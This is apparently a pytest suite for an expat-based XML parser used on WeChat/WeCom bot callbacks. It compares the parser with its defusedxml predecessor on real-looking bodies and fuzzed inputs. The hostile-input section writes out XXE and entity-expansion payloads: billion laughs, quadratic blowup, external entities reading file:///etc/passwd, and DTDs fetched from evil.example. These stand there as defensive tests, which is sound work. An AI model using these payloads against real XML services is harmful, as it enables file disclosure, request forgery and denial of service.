"""parse_xml on expat against the defusedxml implementation it replaced, and hostile XML."""

from __future__ import annotations

import random
import time
from collections.abc import Callable
from typing import Any

import defusedxml.ElementTree as SafeET
import pytest

from bot.callback import XmlDoc, XmlValue, _expat_parser, parse_xml
from models.errors import BadRequestError
from tests.bot.support import event_xml, message_xml

# --- the reference: bot/callback.py's parse_xml as it was, on defusedxml.ElementTree ---------


def _old_parse_xml(data: bytes) -> XmlDoc:
    import re

    try:
        data.decode("utf-8")
    except UnicodeDecodeError as e:
        raise BadRequestError("body is not UTF-8") from e
    declared = re.match(rb"^\s*<\?xml[^>]*encoding\s*=\s*[\"']([A-Za-z0-9._-]+)[\"']",
                        data[:200])
    if declared and declared.group(1).lower().replace(b"_", b"-") not in (b"utf-8", b"utf8"):
        raise BadRequestError("only UTF-8 XML is accepted")
    try:
        root = SafeET.fromstring(data, forbid_dtd=True, forbid_entities=True,
                                 forbid_external=True)
    except ValueError as e:
        raise BadRequestError(f"forbidden XML construct: {type(e).__name__}") from e
    except SyntaxError as e:
        raise BadRequestError("malformed XML") from e
    if root.tag != "xml":
        raise BadRequestError("the XML root must be <xml>")
    doc = _old_children(root, 0)
    if not isinstance(doc, dict):
        raise BadRequestError("the XML root must hold elements")
    return doc


def _old_children(elem: Any, depth: int) -> XmlValue:
    if depth > 8:
        raise BadRequestError("XML nested too deeply")
    if len(elem) == 0:
        return str(elem.text or "")
    out: XmlDoc = {}
    for child in elem:
        value = _old_children(child, depth + 1)
        tag = str(child.tag)
        if tag in out:
            if depth == 0:
                raise BadRequestError(f"duplicate field {tag!r}")
            prev = out[tag]
            out[tag] = [*prev, value] if isinstance(prev, list) else [prev, value]
        else:
            out[tag] = value
    return out


def _outcome(parse: Callable[[bytes], XmlDoc], data: bytes) -> object:
    """The parsed doc, or "400"; anything else raised fails the test."""
    try:
        return parse(data)
    except BadRequestError:
        return "400"


# --- a corpus of real-looking callback bodies --------------------------------------------------

_HEAD = ("<ToUserName><![CDATA[ww5823bf96d3bd56c7]]></ToUserName>"
         "<FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>"
         "<CreateTime>1764202312</CreateTime>")
_TAIL = "<MsgId>7123456789012345678</MsgId><AgentID>1000002</AgentID>"


def _msg(msg_type: str, body: str) -> bytes:
    return (f"<xml>{_HEAD}<MsgType><![CDATA[{msg_type}]]></MsgType>{body}{_TAIL}</xml>"
            ).encode()


def _event(event: str, body: str = "") -> bytes:
    return (f"<xml>{_HEAD}<MsgType><![CDATA[event]]></MsgType>"
            f"<Event><![CDATA[{event}]]></Event>{body}</xml>").encode()


CORPUS: dict[str, bytes] = {
    "wecom envelope": (b"<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>"
                       b"<Encrypt><![CDATA[RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5"
                       b"zEPeusUiX5L5X/0lWfrf0QADHHhGd3QczcdCUpj911L3vg3W/sYYvuJTs3TUUkSUXxaccAS0"
                       b"qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48kzJs8qLjvd4Xgpue06DOdnLx==]]>"
                       b"</Encrypt><AgentID><![CDATA[218]]></AgentID></xml>"),
    "official account envelope, pretty-printed": (
        b"<xml>\n  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>\n"
        b"  <Encrypt><![CDATA[hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePW"
        b"B3+LrPXo87wzQ1QLvbeUgmBM4x6F8PGHQHFVAFmOD2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHG]]>"
        b"</Encrypt>\n</xml>\n"),
    "text": message_xml(content="宝宝六个月了，辅食先加什么好？").encode(),
    "text, emoji and ]] in CDATA": _msg("text", "<Content><![CDATA[奶粉🍼怎么冲? a]]b ]] "
                                                 "x]]]]><![CDATA[>y 😀]]></Content>"),
    "text, escaped": _msg("text", "<Content>a &amp; b &lt;c&gt; &#x4E2D;&#25991; &quot;</Content>"),
    "text, whitespace and newlines kept": _msg("text", "<Content>\n  第一行\r\n  第二行  \n"
                                                       "</Content>"),
    "image": _msg("image", "<PicUrl><![CDATA[http://mmbiz.qpic.cn/x/0]]></PicUrl>"
                           "<MediaId><![CDATA[1GGc9Nv-kT_e6w]]></MediaId>"),
    "voice": _msg("voice", "<MediaId><![CDATA[media_id]]></MediaId><Format><![CDATA[amr]]>"
                           "</Format><Recognition><![CDATA[腾讯微信团队]]></Recognition>"),
    "video": _msg("video", "<MediaId><![CDATA[m]]></MediaId>"
                           "<ThumbMediaId><![CDATA[t]]></ThumbMediaId>"),
    "link": _msg("link", "<Title><![CDATA[公众平台官网链接]]></Title>"
                         "<Description><![CDATA[]]></Description>"
                         "<Url><![CDATA[https://mp.weixin.qq.com/?a=1&amp;b=2]]></Url>"
                         "<PicUrl/>"),
    "location": _msg("location", "<Location_X>23.134521</Location_X>"
                                 "<Location_Y>113.358803</Location_Y><Scale>20</Scale>"
                                 "<Label><![CDATA[广州市天河区]]></Label>"),
    "empty elements": _msg("text", "<Content></Content><Empty/><Blank>   </Blank>"),
    "subscribe": _event("subscribe", "<EventKey><![CDATA[qrscene_123123]]></EventKey>"
                                     "<Ticket><![CDATA[TICKET]]></Ticket>"),
    "click": _event("click", "<EventKey><![CDATA[EVENTKEY]]></EventKey>"),
    "enter_agent": _event("enter_agent", "<EventKey></EventKey><AgentID>1</AgentID>"),
    "scancode_push": _event("scancode_push", "<EventKey><![CDATA[6]]></EventKey>"
                                             "<ScanCodeInfo><ScanType><![CDATA[qrcode]]>"
                                             "</ScanType><ScanResult><![CDATA[1]]></ScanResult>"
                                             "</ScanCodeInfo>"),
    "pic_sysphoto, one item": _event(
        "pic_sysphoto", "<SendPicsInfo><Count>1</Count><PicList><item><PicMd5Sum>"
                        "<![CDATA[1b5f7c23b5bf75682a53e7b6d163e185]]></PicMd5Sum></item>"
                        "</PicList></SendPicsInfo>"),
    "pic_weixin, three items, pretty-printed": _event(
        "pic_weixin", "\n<SendPicsInfo>\n <Count>3</Count>\n <PicList>\n"
                      "  <item>\n   <PicMd5Sum><![CDATA[a]]></PicMd5Sum>\n  </item>\n"
                      "  <item>\n   <PicMd5Sum><![CDATA[b]]></PicMd5Sum>\n  </item>\n"
                      "  <item><PicMd5Sum/></item>\n </PicList>\n</SendPicsInfo>\n"),
    "location_select": _event(
        "location_select", "<SendLocationInfo><Location_X><![CDATA[23]]></Location_X>"
                           "<Location_Y><![CDATA[113]]></Location_Y><Scale><![CDATA[15]]>"
                           "</Scale><Label><![CDATA[ 广州市海珠区 ]]></Label><Poiname/>"
                           "</SendLocationInfo>"),
    "change_external_contact": event_xml("change_external_contact", extra={
        "ChangeType": "add_external_contact", "UserID": "zhangsan",
        "ExternalUserID": "wmA", "State": "card-7", "WelcomeCode": "CODE"}).encode(),
    "repeated items of mixed shape": _event(
        "x", "<List><item>a</item><item><k>1</k></item><item/><other>o</other>"
             "<item>d</item></List>"),
    "text beside children is ignored": _event("x", "<Box>before<a>1</a>between<b>2</b>after"
                                                   "</Box>"),
    "attributes are ignored": (b'<xml a="1"><MsgType b="2" c="&amp;">text</MsgType>'
                               b'<Content x=\'y\'>hi</Content></xml>'),
    "comments and processing instructions are ignored": (
        b"<xml><!-- c --><Content>a<!-- c -->b<?pi data?>c</Content><?pi?>"
        b"<Box><!--x--><a>1</a></Box></xml><!-- after -->"),
    "utf-8 declaration": b'<?xml version="1.0" encoding="UTF-8"?>\n<xml><a>1</a></xml>',
    "utf8 declaration, standalone": (b"<?xml version='1.0' encoding='utf8' standalone='yes'?>"
                                     b"<xml><a>1</a></xml>"),
    "declaration without encoding": b'<?xml version="1.0"?><xml><a>1</a></xml>',
    "utf-8 BOM": b"\xef\xbb\xbf<xml><a>\xe4\xb8\xad</a></xml>",
    "namespaces": (b'<xml xmlns:w="urn:w"><w:a>1</w:a><b xmlns="urn:b"><c>2</c></b>'
                   b"</xml>"),
    "XInclude is an ordinary element, never processed": (
        b'<xml xmlns:xi="http://www.w3.org/2001/XInclude"><Content>x</Content>'
        b'<xi:include href="file:///etc/passwd" parse="text"/></xml>'),
    "nesting at the limit": b"<xml>" + b"<a>" * 8 + b"deep" + b"</a>" * 8 + b"</xml>",
    "repeated tags two levels down": b"<xml><a><b>1</b><b>2</b><b>3</b></a></xml>",
    "a long text": _msg("text", "<Content><![CDATA[" + "长" * 20_000 + "]]></Content>"),
}


@pytest.mark.parametrize("data", CORPUS.values(), ids=CORPUS.keys())
def test_same_result_as_defusedxml(data: bytes) -> None:
    new = _outcome(parse_xml, data)
    assert new != "400"
    assert new == _outcome(_old_parse_xml, data)


def test_result_shape() -> None:
    doc = parse_xml(CORPUS["pic_weixin, three items, pretty-printed"])
    assert doc["SendPicsInfo"] == {"Count": "3", "PicList": {"item": [
        {"PicMd5Sum": "a"}, {"PicMd5Sum": "b"}, {"PicMd5Sum": ""}]}}
    assert parse_xml(CORPUS["text, emoji and ]] in CDATA"])["Content"] == "奶粉🍼怎么冲? a]]b ]] x]]>y 😀"
    assert parse_xml(CORPUS["namespaces"]) == {"{urn:w}a": "1", "{urn:b}b": {"{urn:b}c": "2"}}
    # XInclude: parsed as a plain (namespaced) element and ignored; nothing is fetched.
    assert parse_xml(CORPUS["XInclude is an ordinary element, never processed"]) == {
        "Content": "x", "{http://www.w3.org/2001/XInclude}include": ""}


def test_mutants_agree_with_defusedxml() -> None:
    # Cut, duplicate and splice markup into real bodies: whatever the old parser made of
    # them (a dict or a 400), the new one must make the same.
    rng = random.Random(20240611)
    seeds = list(CORPUS.values())
    tokens = [b"<", b">", b"</", b"/>", b"&", b";", b"<![CDATA[", b"]]>", b"<a>", b"</a>",
              b"<xml>", b"</xml>", b'"', b"<!--", b"-->", b"<?", b"?>", b"\x00", b"\xc3"]
    for _ in range(600):
        data = rng.choice(seeds)
        for _ in range(rng.randint(1, 3)):
            i = rng.randrange(len(data) + 1)
            j = min(len(data), i + rng.randint(0, 12))
            op = rng.randrange(3)
            if op == 0:
                data = data[:i] + data[j:]
            elif op == 1:
                data = data[:i] + rng.choice(tokens) + data[i:]
            else:
                data = data[:i] + data[i:j] * 2 + data[j:]
        assert _outcome(parse_xml, data) == _outcome(_old_parse_xml, data), data


# --- hostile input: each a quick 400 ---------------------------------------------------------

_LOL = (b'<!DOCTYPE xml [<!ENTITY lol "lol">'
        + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"".join([b"&lol%d;" % (i - 1)] * 10)
                                                  if i > 1 else b"&lol;" * 10)
                   for i in range(1, 10))
        + b"]><xml><a>&lol9;</a></xml>")

HOSTILE: dict[str, bytes] = {
    "DOCTYPE with an internal entity": (b'<!DOCTYPE xml [<!ENTITY x "y">]>'
                                        b"<xml><a>&x;</a></xml>"),
    "bare DOCTYPE": b"<!DOCTYPE xml><xml><a>1</a></xml>",
    "billion laughs": _LOL,
    "quadratic blowup": (b'<!DOCTYPE xml [<!ENTITY a "' + b"x" * 50_000 + b'">]><xml><a>'
                         + b"&a;" * 10_000 + b"</a></xml>"),
    "external SYSTEM entity": (b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                               b"<xml><a>&x;</a></xml>"),
    "external PUBLIC DTD": (b'<!DOCTYPE xml PUBLIC "-//X//DTD X//EN" "http://evil.example/x.dtd">'
                            b"<xml><a>1</a></xml>"),
    "parameter entities": (b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">'
                           b'%p;<!ENTITY % q "<!ENTITY r \'s\'>">%q;]><xml><a>&r;</a></xml>'),
    "unparsed entity and notation": (b'<!DOCTYPE xml [<!NOTATION png SYSTEM "image/png">'
                                     b'<!ENTITY u SYSTEM "http://evil.example/u" NDATA png>]>'
                                     b"<xml><a>1</a></xml>"),
    "undefined entity, no DTD": b"<xml><a>&x;</a></xml>",
    "invalid character reference": b"<xml><a>&#0;</a></xml>",
    "NUL byte": b"<xml><a>\x00</a></xml>",
    "nesting 9 levels": b"<xml>" + b"<a>" * 9 + b"</a>" * 9 + b"</xml>",
    "nesting 10,000 levels": b"<xml>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</xml>",
    "nesting 10,000 levels, never closed": b"<xml>" + b"<a>" * 10_000,
    "huge attribute, unterminated": b'<xml><a b="' + b"x" * 5_000_000,
    "unclosed tags": b"<xml><a>1</a><b>",
    "mismatched tags": b"<xml><a>1</b></xml>",
    "two roots": b"<xml><a>1</a></xml><xml><a>2</a></xml>",
    "text after the root": b"<xml><a>1</a></xml>junk",
    "empty body": b"",
    "whitespace only": b" \n ",
    "not XML": b"not xml at all",
    "root not <xml>": b"<root><a>1</a></root>",
    "namespaced <xml> root": b'<xml xmlns="urn:x"><a>1</a></xml>',
    "root without elements": b"<xml>text</xml>",
    "empty root": b"<xml/>",
    "duplicate top-level field": b"<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>",
    "unbound namespace prefix (XInclude without xmlns)": b'<xml><xi:include href="x"/></xml>',
    "duplicate attribute": b'<xml a="1" a="2"><b>1</b></xml>',
    "UTF-8 BOM, UTF-16 declared": (b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-16"?>'
                                   b"<xml><a>1</a></xml>"),
    "UTF-8 BOM, unknown encoding declared": (b'\xef\xbb\xbf<?xml version="1.0" encoding="UT-16"?>'
                                             b"<xml><a>1</a></xml>"),
    "UTF-16 with BOM": '<?xml version="1.0" encoding="UTF-16"?><xml><a>1</a></xml>'.encode(
        "utf-16"),
    "UTF-16LE without BOM (NUL bytes are valid UTF-8)": "<xml><a>1</a></xml>".encode(
        "utf-16-le"),
    "UTF-16BE without BOM": "<xml><a>1</a></xml>".encode("utf-16-be"),
    "GBK declared": b'<?xml version="1.0" encoding="GBK"?><xml><a>x</a></xml>',
    "latin-1 declared past the first 200 bytes": (b'<?xml version="1.0"' + b" " * 300
                                                  + b'encoding="ISO-8859-1"?><xml><a>x</a></xml>'),
    "invalid UTF-8 (GBK bytes)": b"<xml><a>\xb9\xfe</a></xml>",
    "invalid UTF-8 (overlong)": b"<xml><a>\xc0\xbc</a></xml>",
    "invalid UTF-8 (surrogate)": b"<xml><a>\xed\xa0\x80</a></xml>",
    "invalid UTF-8 (truncated)": b"<xml><a>\xe4\xb8</a></xml>",
}


@pytest.mark.timeout(10)
@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_xml_is_a_quick_400(data: bytes) -> None:
    began = time.perf_counter()
    with pytest.raises(BadRequestError):
        parse_xml(data)
    assert time.perf_counter() - began < 2


@pytest.mark.parametrize("data", [HOSTILE[k] for k in (
    "DOCTYPE with an internal entity", "billion laughs", "external SYSTEM entity",
    "parameter entities", "unparsed entity and notation")])
def test_forbidden_constructs_are_named(data: bytes) -> None:
    with pytest.raises(BadRequestError, match="forbidden XML construct: DOCTYPE"):
        parse_xml(data)


@pytest.mark.parametrize(("data", "unset", "construct"), [
    (b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', (), "entity declaration"),
    (b'<!DOCTYPE x [<!ENTITY % p "b">]><x/>', (), "entity declaration"),
    (b'<!DOCTYPE x [<!NOTATION n SYSTEM "n">]><x/>', (), "notation declaration"),
    (b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
     ("EntityDeclHandler",), "external entity reference"),
])
def test_second_line_handlers(data: bytes, unset: tuple[str, ...], construct: str) -> None:
    # Were the DOCTYPE let through, declarations and external references are still refused.
    parser = _expat_parser()
    for name in ("StartDoctypeDeclHandler", *unset):
        setattr(parser, name, None)
    with pytest.raises(BadRequestError, match=construct):
        parser.Parse(data, True)


def test_deep_nesting_stops_early() -> None:
    with pytest.raises(BadRequestError, match="nested too deeply"):
        parse_xml(HOSTILE["nesting 10,000 levels"])


def test_huge_attribute_is_ignored() -> None:
    # Well-formed, so accepted as before; the attribute is dropped, never copied into the doc.
    data = b'<xml><a b="' + b"x" * 5_000_000 + b'">1</a></xml>'
    assert parse_xml(data) == {"a": "1"} == _old_parse_xml(data)


@pytest.mark.parametrize("name", ["UTF-16LE without BOM (NUL bytes are valid UTF-8)",
                                  "latin-1 declared past the first 200 bytes"])
def test_encoding_holes_the_old_parser_had_are_closed(name: str) -> None:
    # defusedxml let expat sniff UTF-16 from "<\x00", or take the charset from a declaration
    # the 200-byte regex missed; both parsed. Now NUL bytes are refused and the declaration
    # expat itself reads is checked.
    assert _outcome(_old_parse_xml, HOSTILE[name]) != "400"
    assert _outcome(parse_xml, HOSTILE[name]) == "400"


def test_unknown_declared_encoding_is_a_400_not_a_crash() -> None:
    # Behind a BOM the regex missed it and expat asked Python for the codec: a LookupError,
    # which would have been a 500.
    data = HOSTILE["UTF-8 BOM, unknown encoding declared"]
    with pytest.raises(LookupError):
        _old_parse_xml(data)
    with pytest.raises(BadRequestError, match="only UTF-8"):
        parse_xml(data)
